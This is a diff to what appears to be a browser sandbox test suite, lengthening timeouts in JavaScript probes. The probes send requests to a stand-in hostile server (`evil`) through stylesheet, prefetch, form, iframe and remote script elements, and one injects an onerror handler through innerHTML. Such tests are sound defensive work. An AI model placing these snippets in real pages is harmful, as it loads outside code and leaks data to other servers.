@@ -161,12 +161,12 @@ SCRIPTS: tuple[Probe, ...] = (
     _out(
         "a style sheet's address on another server",
         "const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = `${evil}/style?x`;"
-        " document.head.append(link); await settle(250); link.remove(); return 'ask'",
+        " document.head.append(link); await settle(3000); link.remove(); return 'ask'",
     ),
     _out(
         "`prefetch` of another server",
         "const link = document.createElement('link'); link.rel = 'prefetch'; link.href = `${evil}/prefetch?x`;"
-        " document.head.append(link); await settle(250); link.remove(); return 'ask'",
+        " document.head.append(link); await settle(3000); link.remove(); return 'ask'",
     ),
     _out(
         "WebSocket to another server",
@@ -179,7 +179,7 @@ SCRIPTS: tuple[Probe, ...] = (
     _out(
         "a form sent to another server",
         "const form = document.createElement('form'); form.action = `${evil}/form`; form.method = 'post'; form.target = '_blank';"
-        " document.body.append(form); form.submit(); await settle(300); form.remove(); return 'ask'",
+        " document.body.append(form); form.submit(); await settle(3000); form.remove(); return 'ask'",
     ),
     _out(
         "`window.open` of another server",
@@ -188,7 +188,7 @@ SCRIPTS: tuple[Probe, ...] = (
     _out(
         "a frame of another server",
         "const frame = document.createElement('iframe'); frame.src = `${evil}/frame`; document.body.append(frame);"
-        " await settle(300); frame.remove(); return 'ask'",
+        " await settle(3000); frame.remove(); return 'ask'",
     ),
     _out(
         "a WebRTC peer connection",
@@ -274,12 +274,12 @@ SCRIPTS: tuple[Probe, ...] = (
     _code(
         "a script of another server",
         "const script = document.createElement('script'); script.src = `${evil}/script`; document.head.append(script);"
-        " await settle(250); script.remove(); return 'ask'",
+        " await settle(3000); script.remove(); return 'ask'",
     ),
     _code(
         "`innerHTML` with an event handler",
         "const box = document.createElement('div'); box.innerHTML = '<img src=x onerror=\"window.handled = 1\">';"
-        " document.body.append(box); await settle(900); box.remove(); return window.handled === 1",
+        " document.body.append(box); await settle(5000); box.remove(); return window.handled === 1",
     ),
     _code(
         "`document.write`",
